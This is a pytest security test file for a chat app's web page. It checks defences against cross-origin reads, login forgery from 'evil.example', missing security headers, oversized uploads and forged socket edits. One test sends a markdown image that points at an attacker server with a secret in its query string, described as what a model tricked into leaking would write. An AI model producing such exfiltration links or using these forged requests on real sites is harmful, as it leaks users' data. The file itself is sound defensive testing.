"""The page as an attacker and an operator try it: other origins, login forgery, headers, cookies.

Each test here failed against the page before ``memchat/web/guard.py``: Chainlit answered
any origin with credentials, its socket checked no ``Origin``, and it sent no security headers.
"""

from __future__ import annotations

import asyncio
import json
import socket
import stat
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from memchat.web.serve import auth_secret
from support import Memchat
from web_page import (
    PASSWORDS,
    Web,
    login_cookie,
    open_chat,
    page_socket,
    post_login,
    run_async,
    send,
    stored_items,
    wait_for_text,
)


class Attacker:
    """Another page on the same host, another port: a different origin but the same site, so cookies go along."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        seen = self.requests

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - stdlib name
                pass

            def do_GET(self) -> None:
                seen.append(self.path)
                body = b"<!doctype html><title>elsewhere</title><p>nothing to see</p>"
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    running = Attacker()
    yield running
    running.server.shutdown()
    running.server.server_close()


def test_another_origin_cannot_read_or_write_a_logged_in_users_memory(page, web: Web, attacker: Attacker) -> None:  # type: ignore[no-untyped-def]
    open_chat(page, web, "alice")
    before = stored_items(web.db, "alice")
    page.goto(attacker.url)  # the same browser, alice's cookies in it
    outcome = page.evaluate(
        """async (target) => {
            const read = await fetch(target + "/user", {credentials: "include"})
                .then((answer) => "read " + answer.status, () => "blocked");
            const polled = await fetch(target + "/ws/socket.io/?EIO=4&transport=polling", {credentials: "include"})
                .then((answer) => "read " + answer.status, () => "blocked");
            const socket = await new Promise((done) => {
                const ws = new WebSocket(target.replace("http", "ws") + "/ws/socket.io/?EIO=4&transport=websocket");
                ws.onopen = () => done("open");
                ws.onerror = () => done("refused");
                setTimeout(() => done("no answer"), 10000);
            });
            return {read, polled, socket};
        }""",
        web.url,
    )
    assert outcome == {"read": "blocked", "polled": "blocked", "socket": "refused"}
    assert stored_items(web.db, "alice") == before


def test_a_login_posted_from_another_site_is_refused(web: Web) -> None:
    # Login forgery: the victim would then chat into the attacker's memory.
    status, _ = post_login(web, "alice", PASSWORDS["alice"], Origin="http://evil.example")
    assert status == 403
    status, headers = post_login(web, "alice", PASSWORDS["alice"], Origin=web.url)
    assert status == 200 and "access_token" in headers.get("set-cookie", "")
    status, _ = post_login(web, "alice", PASSWORDS["alice"])  # no Origin: not a browser page, still needs the password
    assert status == 200


def test_every_answer_carries_the_security_headers(web: Web) -> None:
    for path in ("/", "/login", "/project/settings?language=en-US"):
        try:
            with urllib.request.urlopen(web.url + path, timeout=20) as answer:
                headers = {name.lower(): value for name, value in answer.headers.items()}
        except urllib.error.HTTPError as exc:  # /login wants a POST: its refusal carries them too
            headers = {name.lower(): value for name, value in exc.headers.items()}
        policy = headers["content-security-policy"]
        assert "img-src 'self' data: blob:" in policy and "frame-ancestors 'none'" in policy, path
        assert "script-src 'self' 'sha256-" in policy  # the page's own inline scripts, by hash, and no others
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"


def test_cookies_are_secure_behind_a_proxy_that_says_https(web: Web) -> None:
    _, plain = post_login(web, "alice", PASSWORDS["alice"])
    assert "secure" not in plain["set-cookie"].lower()  # plain http on this machine: a Secure cookie would be lost
    _, proxied = post_login(web, "alice", PASSWORDS["alice"], **{"X-Forwarded-Proto": "https"})
    assert "; secure" in proxied["set-cookie"].lower()


def test_an_image_in_a_message_or_reply_loads_nothing_from_another_host(page, web: Web, attacker: Attacker) -> None:  # type: ignore[no-untyped-def]
    open_chat(page, web, "bob")
    # The model repeats it ("You said: ..."), so it is in a reply too, as a model tricked into leaking would write it.
    send(page, f"look ![pixel]({attacker.url}/leak.png?secret=bob-memory)")
    wait_for_text(page, "You said: look")
    page.wait_for_timeout(1000)
    assert not any(path.startswith("/leak.png") for path in attacker.requests)


@pytest.mark.parametrize("port", ["80999", "-1", "eighty"])
def test_a_port_that_is_not_one_is_one_line_and_exit_2(memchat: Memchat, port: str) -> None:
    run = memchat("web", "--port", port)
    assert run.returncode == 2
    assert (
        run.stderr
        == f"error: argument --port: {port!r} is not a port: use a number from 1 to 65535, such as 8000: see memchat web --help\n"
    )


@pytest.mark.parametrize("host", ["10.255.255.1", "a..b"])
def test_a_host_that_is_not_this_machines_is_one_line_naming_host(memchat: Memchat, host: str) -> None:
    run = memchat("web", "--host", host, "--port", "8765")
    assert run.returncode == 2
    assert run.stderr.startswith("error: ") and "pass --host an address of this machine" in run.stderr
    assert "--port" not in run.stderr and len(run.stderr.splitlines()) == 1


def test_an_empty_login_secret_file_is_written_again(tmp_path: Path) -> None:
    # A start on a full disk left it empty; every correct login was then a bare 500.
    secret = tmp_path / "auth_secret"
    secret.touch(mode=0o600)
    made = auth_secret(secret)
    assert len(made) >= 32 and secret.read_text() == made
    assert stat.S_IMODE(secret.stat().st_mode) == 0o600
    assert auth_secret(secret) == made  # kept from then on


def test_an_upload_too_large_is_refused_before_its_body_is_read(web: Web) -> None:
    # Before, a 400 MB upload was read into memory before being refused. Here the body is never
    # sent at all: the answer must come from the headers alone.
    host, port = web.url.removeprefix("http://").split(":")
    head = (
        f"POST /project/file?session_id=anything HTTP/1.1\r\nHost: {host}:{port}\r\n"
        f"Cookie: {login_cookie(web.url, 'alice', PASSWORDS['alice'])}\r\nContent-Type: multipart/form-data; boundary=zz\r\n"
        f"Content-Length: {400 * 1024 * 1024}\r\n\r\n"
    )
    with socket.create_connection((host, int(port)), timeout=20) as conn:
        conn.sendall(head.encode())
        answer = ""
        while "may be up to" not in answer and (piece := conn.recv(65536).decode()):
            answer += piece
    assert answer.startswith("HTTP/1.1 413"), answer[:200]
    assert '"files on this page may be up to 20 MB"' in answer


def test_an_edit_sent_over_the_socket_changes_nothing(web: Web) -> None:
    # Editing is off on the page; before, a crafted socket event reran the turn while the store kept the old one.

    async def session() -> None:
        client = await page_socket(web.url, login_cookie(web.url, "bob", PASSWORDS["bob"]))
        await client.emit("connection_successful")
        message = {
            "id": str(uuid.uuid4()),
            "threadId": "",
            "type": "user_message",
            "name": "bob",
            "output": "the kettle is blue",
            "createdAt": "2026-11-22T00:00:00Z",
        }
        await client.emit("client_message", {"message": message, "fileReferences": None})
        deadline = time.monotonic() + 20
        while not any("the kettle is blue" in json.dumps(item) for item in stored_items(web.db, "bob")):
            assert time.monotonic() < deadline, "the message was not answered"
            await asyncio.sleep(0.1)
        before = stored_items(web.db, "bob")
        await client.emit("edit_message", {"message": {**message, "output": "the kettle is red"}})
        await asyncio.sleep(3)
        assert stored_items(web.db, "bob") == before
        await client.disconnect()

    run_async(session())
